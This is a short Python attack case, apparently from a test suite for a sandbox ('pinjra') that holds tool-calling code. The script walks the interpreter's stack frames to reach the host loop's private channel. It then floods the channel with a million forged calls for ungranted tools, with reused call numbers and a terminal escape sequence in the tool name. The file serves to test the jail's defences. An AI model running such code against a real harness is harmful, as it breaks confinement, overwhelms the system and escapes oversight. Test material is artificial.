# attack: jail/flood-of-calls
# oracle: runaway
# imports: sys, pinjra
# tools:
# source: own
# note: calls of tools that were never granted, with numbers used before, open at once
import sys

from pinjra.wire.messages import Call

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_checkpoint"):
    frame = frame.f_back
loop = frame.f_locals["self"]
for n in range(1_000_000):
    loop._channel.send(
        Call(
            run=loop._channel.run,
            call=1 + n % 3,
            name="\x1b]0;pwn\x07",
            args=["l"],
            kwargs={},
        )
    )
